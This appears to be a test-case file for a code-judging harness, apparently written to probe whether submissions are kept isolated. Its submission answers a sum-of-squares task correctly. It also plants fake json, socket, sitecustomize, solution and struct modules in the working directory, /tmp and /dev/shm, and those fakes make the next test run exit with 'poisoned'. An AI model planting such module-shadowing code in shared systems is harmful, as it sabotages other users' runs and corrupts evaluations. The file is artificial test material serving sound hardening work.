# id: G13b
# attack: writes a json.py, a socket.py and a sitecustomize.py for the next test, and answers rightly
# challenge: sum-of-squares
# expect: accepted
# passes: all
# times: 2
import pathlib


def answer(values):
    for name in ("json", "socket", "sitecustomize", "solution", "struct"):
        for place in (".", "/tmp", "/dev/shm", "/tmp/home"):
            try:
                pathlib.Path(place, f"{name}.py").write_text("raise SystemExit('poisoned')\n")
            except OSError:
                pass
    return sum(value * value for value in values)
